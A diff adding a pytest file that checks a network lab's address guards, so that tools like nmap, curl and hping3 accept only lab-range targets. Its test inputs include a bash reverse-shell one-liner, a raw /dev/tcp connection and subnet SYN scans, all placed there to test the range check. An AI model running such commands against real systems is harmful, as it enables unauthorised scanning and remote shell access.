@@ -1,0 +1,60 @@
+"""lab/run.py's address guards: every target handed to a tool must be inside the lab ranges (no root needed)."""
+
+from __future__ import annotations
+
+import importlib.util
+import sys
+from pathlib import Path
+
+import pytest
+
+RUN_PY = Path(__file__).resolve().parents[2] / "lab" / "run.py"
+_spec = importlib.util.spec_from_file_location("nta_lab_run", RUN_PY)
+assert _spec is not None and _spec.loader is not None
+labrun = importlib.util.module_from_spec(_spec)
+sys.modules["nta_lab_run"] = labrun  # dataclasses look their module up there
+_spec.loader.exec_module(labrun)
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["nmap", "-n", "-sS", "10.77.4.9", "10.77.4.0/24"],
+        ["curl", "-sk", "https://10.77.8.1:443/x", "http://[fd77::5]/y"],
+        ["bash", "-c", "bash -i >& /dev/tcp/10.77.63.171/444 0>&1"],
+        ["hping3", "--rand-dest", "10.77.61.x", "-c", "5"],
+        ["ping", "-c", "1", "fd77:0:0:1::2"],
+        ["lftp", "-e", "get a -o /dev/null; bye", "127.0.0.1"],
+    ],
+)
+def test_lab_targets_pass(argv: list[str]) -> None:
+    labrun.assert_argv_lab(argv)
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["nmap", "10.0.0.0/8"],
+        ["nmap", "10.77.0.0/8"],
+        ["curl", "http://192.168.1.1/"],
+        ["ping", "8.8.8.8"],
+        ["nmap", "-6", "fd00::2"],
+        ["bash", "-c", "cat </dev/tcp/1.2.3.4/80"],
+        ["hping3", "--rand-dest", "192.0.2.x"],
+    ],
+)
+def test_other_targets_are_refused(argv: list[str]) -> None:
+    with pytest.raises(AssertionError):
+        labrun.assert_argv_lab(argv)
+
+
+def test_tgt_and_plan_stay_in_the_lab() -> None:
+    with pytest.raises(AssertionError):
+        labrun.tgt("192.0.2.2")
+    for seed in (1, 2, 3, 101):
+        plan = labrun.Plan(seed, 10)
+        addrs = [a for h in plan.all_hosts() for a in h.v4 + h.v6]
+        assert all(labrun.in_lab(a) for a in addrs)
+        assert len(set(addrs)) == len(addrs)
+        assert all(labrun.in_lab(str(n)) for n in (plan.main4, plan.rem4, plan.main6, plan.rem6, plan.spoof4))
+        assert not any(ipa in plan.spoof4 for ipa in map(labrun.ipaddress.ip_address, (a for a in addrs if "." in a)))
